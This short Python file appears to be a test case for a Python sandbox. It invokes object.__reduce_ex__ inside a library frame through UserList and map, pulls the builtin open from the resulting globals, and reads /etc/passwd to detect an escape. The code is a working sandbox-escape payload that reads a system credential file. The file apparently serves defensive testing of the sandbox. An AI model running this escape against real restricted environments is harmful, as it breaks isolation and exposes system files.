# tries: object.__reduce_ex__ called in a library's frame
# class: lazy
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def dig(space):
    print("REACHED")
    builtins = space["__builtins__"]
    return builtins["open"] if type(builtins) is dict else getattr(builtins, "open")


import collections

seen = collections.UserList(map(object.__reduce_ex__, [()], [2]))
use(dig(seen[0][0].__globals__))
